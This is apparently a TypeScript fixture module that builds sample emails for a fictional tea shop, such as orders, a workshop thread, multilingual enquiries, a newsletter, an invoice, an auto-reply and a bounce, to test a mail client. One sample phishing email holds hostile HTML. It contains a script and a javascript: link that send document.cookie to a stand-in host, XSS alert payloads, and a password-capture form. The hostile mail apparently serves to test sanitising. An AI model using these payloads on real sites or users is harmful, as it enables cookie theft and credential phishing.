import { createTransport } from 'nodemailer';
import MailComposer from 'nodemailer/lib/mail-composer';
import type { Options } from 'nodemailer/lib/mailer';
import { bandedPng, onePagePdf } from './files.ts';

export interface DemoMail {
  /** An empty `from` is the null sender of bounces and automatic replies. */
  envelope: { from: string; to: string };
  raw: Buffer;
}

export interface Letter extends Options {
  from: string;
  to: string;
  subject: string;
  /** Without angle brackets. Stable across starts, so that Herald recognizes a second copy as a duplicate. */
  messageId: string;
  hoursAgo: number;
  /** The ids of the earlier messages in the conversation, oldest first. */
  references?: string[];
  isAutomatic?: boolean;
}

/**
 * Generates three days of mail to "Kettle & Lark", a fictional tea shop with a live channel, at `domain`: two
 * conversations, and one of each kind of mail that is hard to handle. The same input gives the same bytes. People and
 * companies are fictional.
 */
export async function demoMail(domain: string, now: Date): Promise<DemoMail[]> {
  const letters = [
    ...lateOrder(domain),
    ...workshopPlans(domain),
    ...singleLetters(domain),
    outOfOffice(domain),
  ].map((letter) => compose(letter, now));
  const mails = await Promise.all(letters);
  mails.push(bounce(domain, hoursBefore(now, 20)));
  return mails;
}

/** Sends the mails in this order to the SMTP server on this port of 127.0.0.1. Rejects if the server refuses one. */
export async function sendDemoMail(smtpPort: number, mails: DemoMail[]): Promise<void> {
  const transport = createTransport({
    host: '127.0.0.1',
    port: smtpPort,
    secure: false,
    ignoreTLS: true,
    pool: true,
    maxConnections: 1,
    maxMessages: Infinity,
    connectionTimeout: 5_000,
    socketTimeout: 10_000,
  });
  try {
    for (const { envelope, raw } of mails) await transport.sendMail({ envelope, raw });
  } finally {
    transport.close();
  }
}

/** Composes the message. Its Message-ID and boundaries are deterministic. */
export async function compose(letter: Letter, now: Date): Promise<DemoMail> {
  const { hoursAgo, references = [], isAutomatic, ...mail } = letter;
  const composer = new MailComposer({
    ...mail,
    messageId: `<${mail.messageId}>`,
    inReplyTo: references.length > 0 ? `<${references.at(-1)}>` : undefined,
    references: references.map((id) => `<${id}>`),
    date: hoursBefore(now, hoursAgo),
    newline: 'windows',
  });
  const message = composer.compile();
  // nodemailer's own boundary is random.
  message.baseBoundary = mail.messageId.replace(/\W/g, '-');
  const { from, to } = message.getEnvelope();
  return {
    envelope: { from: isAutomatic ? '' : from || '', to: to[0] ?? '' },
    raw: await message.build(),
  };
}

function hoursBefore(now: Date, hours: number): Date {
  return new Date(now.getTime() - hours * 3_600_000);
}

function lateOrder(domain: string): Letter[] {
  const from = 'Marta Lindqvist <marta.lindqvist@example.com>';
  const to = `support@${domain}`;
  const first = 'order-2291-late@example.com';
  const second = 'order-2291-number@example.com';
  const answer = `order-2291-answer@${domain}`;
  return [
    {
      from,
      to,
      subject: 'Where is my order?',
      messageId: first,
      hoursAgo: 70,
      text: 'Hello,\n\nI ordered the blue cast-iron kettle nine days ago and it still says "packing". It is a birthday present for Sunday. Can you tell me where it is?\n\nMarta Lindqvist\n',
    },
    {
      from,
      to,
      subject: 'Re: Where is my order?',
      messageId: second,
      references: [first],
      hoursAgo: 69.5,
      text: 'Sorry, I forgot the number: it is order 2291.\n\nMarta\n',
    },
    {
      // Replies to a message from the shop that is not in the demo.
      from,
      to,
      subject: 'Re: Where is my order?',
      messageId: 'order-2291-thanks@example.com',
      references: [first, second, answer],
      hoursAgo: 46,
      text: `Thank you, Friday is early enough. Please leave it with the neighbours at number 14 if I am not in.\n\nBest wishes\nMarta\n\nKettle & Lark Support <${to}> wrote:\n> Hello Marta,\n>\n> order 2291 left our storeroom this morning and will be with you on Friday.\n> We are sorry for the wait.\n`,
    },
  ];
}

function workshopPlans(domain: string): Letter[] {
  const priya = 'Priya Raman <priya@teahouse.example.org>';
  const jonas = 'Jonas Weber <jonas@teahouse.example.org>';
  const to = `partners@${domain}`;
  const subject = 'A tasting workshop, live on your channel?';
  const reply = `Re: ${subject}`;
  const ids = ['proposal', 'dates', 'choice', 'camera'].map(
    (name) => `workshop-${name}@teahouse.example.org`,
  );
  const [proposal = '', dates = '', choice = '', camera = ''] = ids;
  return [
    {
      from: priya,
      to,
      cc: jonas,
      subject,
      messageId: proposal,
      hoursAgo: 64,
      text: 'Dear Kettle & Lark,\n\nwe run a small tea house and love your Thursday streams. Would you like to hold a tasting of first-flush Darjeelings together, one hour, live from our place? We would bring the teas and twelve guests; you would bring the cameras.\n\nJonas, who keeps our calendar, is in copy.\n\nPriya Raman\n',
    },
    {
      from: jonas,
      to,
      cc: priya,
      subject: reply,
      messageId: dates,
      references: ids.slice(0, 1),
      hoursAgo: 60,
      text: 'Hello all,\n\nthe house is free on the 5th, the 12th and the 19th, each from 18:00.\n\nJonas\n',
    },
    {
      from: priya,
      to,
      cc: jonas,
      subject: reply,
      messageId: choice,
      references: ids.slice(0, 2),
      hoursAgo: 41,
      text: 'The 12th would suit me best: the new harvest will be here by then.\n\n> the house is free on the 5th, the 12th and the 19th\n\nPriya\n',
    },
    {
      from: jonas,
      to,
      cc: priya,
      subject: reply,
      messageId: camera,
      references: ids.slice(0, 3),
      hoursAgo: 5,
      text: 'The 12th is reserved for us. What do you need from our side: how many sockets, how fast an uplink, and when would you come to set up?\n\nJonas\n',
    },
  ];
}

function singleLetters(domain: string): Letter[] {
  return [
    {
      from: '佐藤 結衣 <yui.sato@example.net>',
      to: `hello@${domain}`,
      subject: '急須の在庫についてのお問い合わせ',
      messageId: 'kyusu-stock@example.net',
      hoursAgo: 33,
      text: 'ケトル・アンド・ラーク 御中\n\nはじめまして、佐藤と申します。\n先日のライブ配信で紹介されていた常滑焼の急須(容量二七〇ml)は、まだ在庫がありますか。\n日本への発送が可能でしたら、送料もあわせて教えてください。\n\nどうぞよろしくお願いいたします。\n佐藤 結衣\n',
    },
    {
      from: 'ليلى حداد <layla.haddad@example.org>',
      to: `info@${domain}`,
      subject: 'سؤال عن الشحن إلى عمّان',
      messageId: 'shipping-amman@example.org',
      hoursAgo: 28,
      text: 'مرحبًا،\n\nأرغب في شراء طقم الشاي الزجاجي (6 أكواب) من متجركم. هل تشحنون إلى عمّان؟ وكم يستغرق وصول الطلب؟\n\nمع خالص الشكر،\nليلى حداد\n',
    },
    {
      from: 'The Leaf Letter <letter@leafletter.example.com>',
      to: `info@${domain}`,
      subject: 'The Leaf Letter no. 48: what the rain did to the spring harvest',
      messageId: 'issue-48@leafletter.example.com',
      hoursAgo: 52,
      headers: {
        Precedence: 'bulk',
        'List-Unsubscribe': '<https://leafletter.example.com/unsubscribe?reader=881>',
      },
      text: 'The Leaf Letter no. 48\n\nWhat the rain did to the spring harvest, three new books, and a recipe.\n\nUnsubscribe: https://leafletter.example.com/unsubscribe?reader=881\n',
      html: '<table width="600" align="center"><tr><td><img src="cid:masthead@leafletter.example.com" alt="The Leaf Letter" width="120" height="48"></td></tr><tr><td><h1>What the rain did to the spring harvest</h1><p>Two wet weeks in March delayed the first flush. Growers speak of <b>smaller, sweeter</b> leaves.</p><ul><li>Three new books</li><li>A recipe: smoked tea eggs</li></ul><p style="font-size:11px">You asked for this letter. <a href="https://leafletter.example.com/unsubscribe?reader=881">Unsubscribe</a></p></td></tr></table>\n',
      attachments: [
        {
          filename: 'masthead.png',
          cid: 'masthead@leafletter.example.com',
          contentDisposition: 'inline',
          content: bandedPng(120, 48, [232, 240, 226], [74, 112, 67]),
        },
      ],
    },
    {
      from: 'Tomas Novak <tomas.novak@harbour-freight.example.net>',
      to: `partners@${domain}`,
      subject: 'Invoice 7730 and the label proof',
      messageId: 'invoice-7730@harbour-freight.example.net',
      hoursAgo: 25,
      text: 'Hello,\n\nattached are the invoice for October and the proof of the new parcel label. Please let me know by Friday whether the colours are right.\n\nTomas Novak\nHarbour Freight\n',
      attachments: [
        {
          filename: 'invoice-7730.pdf',
          content: onePagePdf([
            'Harbour Freight',
            'Invoice 7730',
            '42 parcels, October',
            'Total: EUR 315.00',
          ]),
        },
        { filename: 'label-proof.png', content: bandedPng(64, 96, [255, 255, 255], [32, 74, 135]) },
      ],
    },
    {
      from: 'Kettle and Lark Mail Team <mail-team@account-check.example.net>',
      to: `hello@${domain}`,
      subject: '[phishing attempt?] Your mailbox will be closed today',
      messageId: 'closing-today@account-check.example.net',
      hoursAgo: 9,
      html: '<p>Dear user,</p><p>your mailbox is 99% full. <a href="javascript:document.location=\'https://account-check.example.net/\'+document.cookie">Sign in now</a> or <a href="https://account-check.example.net/login">https://mail.kettle-and-lark.example.com</a> to keep it.</p><script>fetch("https://account-check.example.net/",{method:"POST",body:document.cookie})</script><img src="x" onerror="alert(document.domain)"><iframe src="https://account-check.example.net/frame"></iframe><form action="https://account-check.example.net/steal"><input name="password" type="password"><button>Confirm</button></form><svg onload="alert(1)"></svg><style>body{background:url(https://account-check.example.net/pixel)}</style>\n',
    },
    {
      from: 'Adaeze Obi <adaeze.obi@example.com>',
      to: `neo@${domain}`,
      subject: 'Which tea for cold evenings?',
      messageId: 'cold-evenings@example.com',
      hoursAgo: 2,
      text: 'Hi Neo,\n\non the last stream you brewed something dark with orange peel in it. Which tea was that, and how long did you let it draw?\n\n.. and is the recording still up?\n\nAdaeze\n',
    },
    {
      from: 'Grace Holloway <grace.holloway@example.com>',
      to: `"Kettle & Lark" <hello@${domain}>`,
      subject: 'Opening hours during the holidays',
      messageId: 'holiday-hours@example.com',
      hoursAgo: 0.5,
      text: 'Good morning,\n\nis your pick-up counter open between the holidays? I would like to collect order 2304 on the 28th.\n\nMany thanks\nGrace Holloway\n',
    },
  ];
}

function outOfOffice(domain: string): Letter {
  return {
    from: 'Elena Duarte <elena.duarte@ceramics.example.org>',
    to: `partners@${domain}`,
    subject: 'Automatic reply: Quote for 40 stoneware cups',
    messageId: 'away-118@ceramics.example.org',
    references: [`quote-118@${domain}`],
    hoursAgo: 22,
    isAutomatic: true,
    headers: { 'Auto-Submitted': 'auto-replied', 'X-Auto-Response-Suppress': 'All' },
    text: 'I am away from the studio until Monday and will read your message then. For urgent orders please call the workshop.\n\nElena Duarte\n',
  };
}

/** Returns a delivery status notification (RFC 3464), as the receiving server's MAILER-DAEMON would send it. */
function bounce(domain: string, date: Date): DemoMail {
  const to = `support@${domain}`;
  const boundary = 'report-5F21';
  const dateHeader = date.toUTCString().replace('GMT', '+0000');
  const lines = [
    'From: Mail Delivery System <MAILER-DAEMON@mx.example.net>',
    `To: ${to}`,
    'Subject: Undelivered Mail Returned to Sender',
    `Date: ${dateHeader}`,
    'Message-ID: <undelivered-5F21@mx.example.net>',
    'Auto-Submitted: auto-replied',
    'MIME-Version: 1.0',
    `Content-Type: multipart/report; report-type=delivery-status; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    'Content-Type: text/plain; charset=us-ascii',
    '',
    'Your message could not be delivered to one recipient.',
    '',
    '<p.okafor@example.net>: host mx.example.net said: 550 5.1.1 No such user here',
    '',
    `--${boundary}`,
    'Content-Type: message/delivery-status',
    '',
    'Reporting-MTA: dns; mx.example.net',
    `Arrival-Date: ${dateHeader}`,
    '',
    'Final-Recipient: rfc822; p.okafor@example.net',
    'Action: failed',
    'Status: 5.1.1',
    'Diagnostic-Code: smtp; 550 5.1.1 No such user here',
    '',
    `--${boundary}`,
    'Content-Type: text/rfc822-headers',
    '',
    `From: Kettle & Lark Support <${to}>`,
    'To: p.okafor@example.net',
    'Subject: Your refund for order 2260',
    `Message-ID: <refund-2260@${domain}>`,
    '',
    `--${boundary}--`,
    '',
  ];
  return { envelope: { from: '', to }, raw: Buffer.from(lines.join('\r\n')) };
}
